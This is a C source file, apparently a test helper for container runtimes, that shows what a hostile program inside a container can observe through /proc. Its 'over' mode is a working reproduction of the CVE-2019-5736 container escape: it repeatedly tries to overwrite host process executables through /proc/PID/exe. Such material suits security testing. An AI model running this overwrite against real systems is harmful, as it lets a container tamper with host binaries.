/* SPDX-License-Identifier: ISC */
/*
 * snoop.c - what a hostile program in a container can see and do.
 *
 *   snoop fds            its own descriptors, each with what it leads to
 *   snoop watch SECONDS  what /proc shows of the descriptors, root, cwd and program of other processes
 *   snoop over SECONDS   writes over the program of each other process, as CVE-2019-5736 did
 */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define SEEN_MAX 512

static char seen[SEEN_MAX][256];
static int seen_count;

static void say(const char *text)
{
	for (int i = 0; i < seen_count; i++) {
		if (strcmp(seen[i], text) == 0)
			return;
	}
	if (seen_count == SEEN_MAX)
		return;
	(void)snprintf(seen[seen_count++], sizeof(seen[0]), "%s", text);
	puts(text);
	(void)fflush(stdout);
}

static void show(const char *kind, const char *link)
{
	char target[160];
	char text[256];
	ssize_t n = readlink(link, target, sizeof(target) - 1);

	if (n < 0)
		return;
	target[n] = '\0';
	(void)snprintf(text, sizeof(text), "%s %s", kind, target);
	say(text);
}

static void show_descriptors(int pid)
{
	char path[64];

	for (int fd = 0; fd < 32; fd++) {
		(void)snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
		show("fd", path);
	}
}

static void watch(int pid)
{
	static const char *const links[] = {"exe", "root", "cwd"};
	char path[64];

	for (int i = 0; i < 3; i++) {
		(void)snprintf(path, sizeof(path), "/proc/%d/%s", pid, links[i]);
		show(links[i], path);
	}
	show_descriptors(pid);
}

/* The program of the container itself is not what the attack is after. */
static int is_ours(int fd)
{
	struct stat there;
	struct stat ours;

	if (fstat(fd, &there) < 0)
		return 1;
	for (int i = 0; i < 2; i++) {
		if (stat(i == 0 ? "/bin/busybox" : "/proc/self/exe", &ours) == 0 &&
		    ours.st_dev == there.st_dev && ours.st_ino == there.st_ino)
			return 1;
	}
	return 0;
}

static void write_over(int pid)
{
	char path[64];
	int exe;

	(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	exe = open(path, O_PATH | O_CLOEXEC);
	if (exe < 0)
		return;
	if (!is_ours(exe)) {
		say("met a program of the host");
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
		/* ETXTBSY until it has ended. */
		for (int i = 0; i < 200; i++) {
			int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);

			if (fd >= 0) {
				(void)!write(fd, "overwritten", 11);
				(void)close(fd);
				say("overwrote it");
				break;
			}
			(void)usleep(100);
		}
	}
	(void)close(exe);
}

int main(int argc, char **argv)
{
	time_t end;
	int self = (int)getpid();

	if (argc == 2) {
		char path[32];
		char target[256];

		for (int fd = 0; fd < 1024; fd++) {
			ssize_t n;

			(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			n = readlink(path, target, sizeof(target) - 1);
			if (n >= 0)
				printf("%d %.*s\n", fd, (int)n, target);
		}
		return 0;
	}
	if (argc != 3)
		return 2;
	end = time(NULL) + strtol(argv[2], NULL, 10);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc != NULL && (entry = readdir(proc)) != NULL) {
			int pid = (int)strtol(entry->d_name, NULL, 10);

			if (pid > 0 && pid != self)
				(strcmp(argv[1], "watch") == 0 ? watch : write_over)(pid);
		}
		if (proc != NULL)
			(void)closedir(proc);
	}
	return 0;
}
